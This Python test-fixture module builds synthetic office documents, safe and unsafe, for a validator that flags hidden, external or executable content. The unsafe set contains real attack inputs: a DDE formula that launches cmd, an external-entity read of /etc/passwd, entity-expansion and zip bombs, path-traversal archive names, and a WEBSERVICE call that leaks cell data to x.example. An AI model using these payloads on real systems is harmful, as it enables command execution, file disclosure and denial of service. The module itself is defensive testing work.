"""Office documents as programs and attackers write them, made from nothing."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping

import openpyxl
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.workbook import Workbook

from tests.attachments import archive

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_ODF = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for name in ("office", "text", "table", "style", "draw", "script", "meta", "manifest")
)


def workbook(change: Callable[[Workbook], object] = lambda _book: None) -> bytes:
    """A workbook with a small table and a chart, changed by ``change``."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Rekap"
    for row in (["bulan", "jumlah"], ["Januari", 5], ["Februari", -7], ["Total", "=SUM(B2:B3)"]):
        sheet.append(row)
    sheet["A6"] = '=HYPERLINK("https://contoh.go.id/", "Sumber")'
    sheet["A7"] = "Situs"
    sheet["A7"].hyperlink = "https://contoh.go.id/data"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "D2")
    change(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_parts(data: bytes, parts: Mapping[str, str | bytes]) -> bytes:
    """The archive with these members put in or replaced."""
    with zipfile.ZipFile(io.BytesIO(data)) as made:
        return archive({**{name: made.read(name) for name in made.namelist()}, **parts})


def relations(*given: tuple[str, str]) -> str:
    """A part of external relations, each a sort and a target."""
    inner = "".join(
        f'<Relationship Id="x{number}" Type="{_RELATION}{sort}" Target="{target}" TargetMode="External"/>'
        for number, (sort, target) in enumerate(given)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'
    )


def word(body: str = "", parts: Mapping[str, str | bytes] | None = None) -> bytes:
    """A DOCX of one ordinary paragraph and ``body``."""
    kinds = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    plain = "<w:p><w:r><w:rPr><w:b/></w:rPr><w:t>Laporan kinerja</w:t></w:r></w:p>"
    return archive(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{kinds}"/></Types>',
            "word/document.xml": f"<w:document {W}><w:body>{plain}{body}</w:body></w:document>",
            "word/_rels/document.xml.rels": relations(
                ("hyperlink", "https://contoh.go.id"), ("hyperlink", "mailto:a@b.example")
            ),
            **(parts or {}),
        }
    )


def odf(kind: str, body: str, styles: str = "", parts: Mapping[str, str | bytes] | None = None) -> bytes:
    """An ODS or ODT with this body."""
    sort = {"ods": "spreadsheet", "odt": "text"}[kind]
    return archive(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{sort}",
            "content.xml": f'<office:document-content {_ODF} xmlns:xlink="http://www.w3.org/1999/xlink"><office:automatic-styles>'
            f"{styles}</office:automatic-styles><office:body><office:{sort}>{body}</office:{sort}></office:body></office:document-content>",
            "META-INF/manifest.xml": f"<manifest:manifest {_ODF}/>",
            **(parts or {}),
        }
    )


def odf_table(columns: str = "", row: str = "", style: str = "") -> str:
    """A sheet with one row of two cells."""
    cell = "<table:table-cell><text:p>isi</text:p></table:table-cell>"
    return (
        f'<table:table table:name="Data" table:style-name="{style}">{columns}'
        f'<table:table-row {row}>{cell}{cell}<table:table-cell table:number-columns-repeated="16382"/></table:table-row></table:table>'
    )


def lying(size: int, said: int) -> bytes:
    """An archive whose member unpacks to ``size`` bytes and declares ``said``, with the checksum of the first ten."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"\0" * size) + packer.flush()
    crc, name = zlib.crc32(b"\0" * 10), b"xl/workbook.xml"
    told = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(packed), said, len(name), 0)
    local = b"PK\x03\x04" + told + name + packed
    central = b"PK\x01\x02" + struct.pack("<H", 20) + told + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def twice() -> bytes:
    """A DOCX that has its text twice."""
    buffer = io.BytesIO(word())
    with zipfile.ZipFile(buffer, "a") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        made.writestr("word/document.xml", f"<w:document {W}/>")
    return buffer.getvalue()


def _hidden_sheet(state: str) -> Callable[[Workbook], object]:
    def change(book: Workbook) -> None:
        book.create_sheet("Data").append(["rahasia"])
        book["Data"].sheet_state = state

    return change


def _row(book: Workbook) -> None:
    book["Rekap"].row_dimensions[3].hidden = True


def _column(book: Workbook) -> None:
    book["Rekap"].column_dimensions["B"].hidden = True


def _empty_column(book: Workbook) -> None:
    book["Rekap"].column_dimensions["Z"].hidden = True


def _remark(book: Workbook) -> None:
    book["Rekap"]["B2"].comment = Comment("cek lagi", "Sekretaris")


def _person(book: Workbook) -> None:
    book.properties.creator = "Nama Pegawai"


def _formula(text: str) -> Callable[[Workbook], object]:
    def change(book: Workbook) -> None:
        book["Rekap"]["C7"] = text

    return change


_MACRO = '<Types><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
_ENTITY = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {W}>&x;</w:document>'
_LAUGH = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'
_RUN = "<w:p><w:r>{}<w:t>gaji pegawai</w:t></w:r></w:p>"
_UNSEEN = '<style:style style:name="u" style:family="{}"><style:{}-properties {}/></style:style>'

UNSAFE: dict[str, tuple[bytes, str, str]] = {
    "a01.xlsx": (workbook(_hidden_sheet("hidden")), "E-OFFICE-SEMBUNYI", "lembar Data"),
    "a02.xlsx": (workbook(_hidden_sheet("veryHidden")), "E-OFFICE-SEMBUNYI", "lembar Data"),
    "a03.xlsx": (workbook(_row), "E-OFFICE-SEMBUNYI", "Rekap baris 3"),
    "a04.xlsx": (workbook(_column), "E-OFFICE-SEMBUNYI", "Rekap kolom B"),
    "a05.xlsx": (workbook(_remark), "W-OFFICE-KOMENTAR", "sel B2"),
    "a06.xlsx": (workbook(_person), "W-OFFICE-PENULIS", "pembuat"),
    "a07.xlsx": (workbook(_formula('=WEBSERVICE("http://x.example/"&A1)')), "E-OFFICE-LUAR", "Rekap!C7"),
    "a08.xlsx": (workbook(_formula("=cmd|' /c calc'!A0")), "E-OFFICE-LUAR", "Rekap!C7"),
    "a09.xlsx": (with_parts(workbook(), {"xl/pivotCache/pivotCacheRecords1.xml": "<r/>"}), "E-XLSX-PIVOT", "xl/pivotCache/pivotCacheRecords1.xml"),
    "a10.xlsx": (with_parts(workbook(), {"xl/connections.xml": "<c/>"}), "E-OFFICE-LUAR", "xl/connections.xml"),
    "a11.xlsx": (with_parts(workbook(), {"xl/vbaProject.bin": b"x"}), "E-OFFICE-MAKRO", ""),
    "a12.xlsx": (with_parts(workbook(), {"xl/macrosheets/sheet1.xml": "<a/>"}), "E-OFFICE-MAKRO", ""),
    "a13.xlsx": (with_parts(workbook(), {"xl/embeddings/oleObject1.bin": b"x"}), "E-OFFICE-TANAM", "xl/embeddings/oleObject1.bin"),
    "a14.xlsx": (lying(10, 500_000_000), "E-ZIP-BOM", ""),
    "a15.xlsx": (lying(5_000_000, 10), "E-ZIP-BOM", "xl/workbook.xml"),
    "a16.xlsx": (workbook()[:2000], "E-OFFICE-RUSAK", "daftar isi arsip"),
    "a17.xlsx": (with_parts(workbook(), {"xl/workbook.xml": "<workbook>"}), "E-OFFICE-RUSAK", "xl/workbook.xml"),
    "a18.xlsx": (word(), "E-JENIS-BEDA", ""),
    "a19.xlsx": (archive({"catatan.txt": "isi"}), "E-JENIS-BEDA", ""),
    "a20.xlsx": (archive({"program.exe": b"MZ"}), "E-JENIS-BEDA", ""),
    "b01.docx": (word('<w:p><w:del w:author="A"><w:r><w:delText>dihapus</w:delText></w:r></w:del></w:p>'), "E-OFFICE-LACAK", "isi paragraf 2"),
    "b02.docx": (word('<w:p><w:ins w:author="A"><w:r><w:t>baru</w:t></w:r></w:ins></w:p>'), "E-OFFICE-LACAK", "isi paragraf 2"),
    "b03.docx": (word(_RUN.format("<w:rPr><w:vanish/></w:rPr>")), "E-OFFICE-SEMBUNYI", "isi paragraf 2"),
    "b04.docx": (word("<w:p><w:r><w:instrText> DDEAUTO c:\\\\x cmd </w:instrText></w:r></w:p>"), "E-OFFICE-LUAR", "isi paragraf 2"),
    "b05.docx": (word('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://x.example/p.png"/></w:p>'), "E-OFFICE-LUAR", "isi paragraf 2"),
    "b06.docx": (word(parts={"word/comments.xml": f"<w:comments {W}><w:comment/></w:comments>"}), "W-OFFICE-KOMENTAR", "komentar 1"),
    "b07.docx": (word(parts={"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://x.example/t.dotm"))}), "E-OFFICE-LUAR", "attachedTemplate: https://x.example/t.dotm"),
    "b08.docx": (word(parts={"word/_rels/header1.xml.rels": relations(("image", "https://x.example/p.png"))}), "E-OFFICE-LUAR", "image: https://x.example/p.png"),
    "b09.docx": (word(parts={"word/_rels/header1.xml.rels": relations(("hyperlink", "file:///C:/Users/budi/a.docx"))}), "E-OFFICE-LUAR", "hyperlink: file:///C:/Users/budi/a.docx"),
    "b10.docx": (word(parts={"[Content_Types].xml": _MACRO}), "E-OFFICE-MAKRO", ""),
    "b11.docx": (word(parts={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"x"}), "E-OFFICE-TANAM", "word/embeddings/Microsoft_Excel_Sheet1.xlsx"),
    "b12.docx": (word(parts={"word/document.xml": _ENTITY}), "E-OFFICE-XML", "word/document.xml"),
    "b13.docx": (word(parts={"docProps/core.xml": _LAUGH}), "E-OFFICE-XML", "docProps/core.xml"),
    "b14.docx": (word(parts={"../../jahat.txt": "x"}), "E-ZIP-NAMA", "../../jahat.txt"),
    "b15.docx": (word(parts={"C:\\jahat.txt": "x"}), "E-ZIP-NAMA", "C:\\jahat.txt"),
    "b16.docx": (twice(), "E-ZIP-GANDA", "word/document.xml"),
    "b17.docx": (word(parts={"Word/Document.xml": "<a/>"}), "E-ZIP-GANDA", "Word/Document.xml"),
    "b18.docx": (b"PK\x03\x04 depan" + word(), "E-OFFICE-RUSAK", "susunan arsip"),
    "b19.docx": (workbook(), "E-JENIS-BEDA", ""),
    "c01.ods": (odf("ods", odf_table(style="u"), _UNSEEN.format("table", "table", 'table:display="false"')), "E-OFFICE-SEMBUNYI", "lembar Data"),
    "c02.ods": (odf("ods", odf_table(row='table:visibility="filter"')), "E-OFFICE-SEMBUNYI", "lembar Data baris 1"),
    "c03.ods": (odf("ods", odf_table('<table:table-column/><table:table-column table:visibility="collapse"/>')), "E-OFFICE-SEMBUNYI", "lembar Data kolom 2"),
    "c04.ods": (odf("ods", "<table:tracked-changes><table:cell-content-change/></table:tracked-changes>" + odf_table()), "E-OFFICE-LACAK", "isi paragraf 1"),
    "c05.ods": (odf("ods", odf_table(), parts={"Basic/Standard/Module1.xml": "<a/>"}), "E-OFFICE-MAKRO", ""),
    "c06.ods": (odf("ods", odf_table() + '<table:dde-links><office:dde-source/></table:dde-links>'), "E-OFFICE-LUAR", "sumber DDE"),
    "c07.ods": (odf("odt", ""), "E-JENIS-BEDA", ""),
    "d01.odt": (odf("odt", "<text:tracked-changes><text:changed-region/></text:tracked-changes>"), "E-OFFICE-LACAK", "isi paragraf 1"),
    "d02.odt": (odf("odt", '<text:p>a<text:span text:style-name="u">rahasia</text:span></text:p>', _UNSEEN.format("text", "text", 'text:display="none"')), "E-OFFICE-SEMBUNYI", "isi paragraf 1"),
    "d03.odt": (odf("odt", '<text:section text:display="none"><text:p>rahasia</text:p></text:section>'), "E-OFFICE-SEMBUNYI", "isi paragraf 1"),
    "d04.odt": (odf("odt", "<text:p>a<office:annotation><text:p>cek</text:p></office:annotation></text:p>"), "W-OFFICE-KOMENTAR", "isi paragraf 1"),
    "d05.odt": (odf("odt", '<text:p><draw:image xlink:href="http://x.example/p.png"/></text:p>'), "E-OFFICE-LUAR", "http://x.example/p.png"),
    "d06.odt": (odf("odt", '<text:p><draw:object-ole xlink:href="./Object 1"/></text:p>'), "E-OFFICE-TANAM", "isi paragraf 1"),
    "d07.odt": (odf("odt", "", parts={"META-INF/manifest.xml": f"<manifest:manifest {_ODF}><manifest:encryption-data/></manifest:manifest>"}), "E-OFFICE-SANDI", ""),
    "d08.odt": (odf("odt", "", parts={"meta.xml": f'<office:document-meta {_ODF}><meta:initial-creator>Nama Pegawai</meta:initial-creator></office:document-meta>'}), "W-OFFICE-PENULIS", "pembuat"),
    "d09.odt": (odf("odt", '<script:event-listener xlink:href="vnd.sun.star.script:a.b"/>'), "E-OFFICE-MAKRO", "isi paragraf 1"),
}  # fmt: skip
"""Documents that hide, fetch or run something, each with the code and the place of what is said of it first."""
SAFE: dict[str, bytes] = {
    "a.xlsx": workbook(),
    "b.xlsx": workbook(_empty_column),
    "c.docx": word(_RUN.format('<w:rPr><w:vanish w:val="0"/></w:rPr>') + "<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>"),
    "d.docx": word("<w:p><w:pPr><w:rPr><w:vanish/><w:specVanish/></w:rPr></w:pPr><w:r><w:t>Judul</w:t></w:r></w:p>"),
    "e.ods": odf("ods", odf_table('<table:table-column table:number-columns-repeated="16384"/>', 'table:visibility="visible"')),
    "f.odt": odf("odt", '<text:p><text:a xlink:href="https://contoh.go.id/">Situs</text:a></text:p><draw:image xlink:href="Pictures/a.png"/>'),
}  # fmt: skip
"""Documents that may be published as they are."""
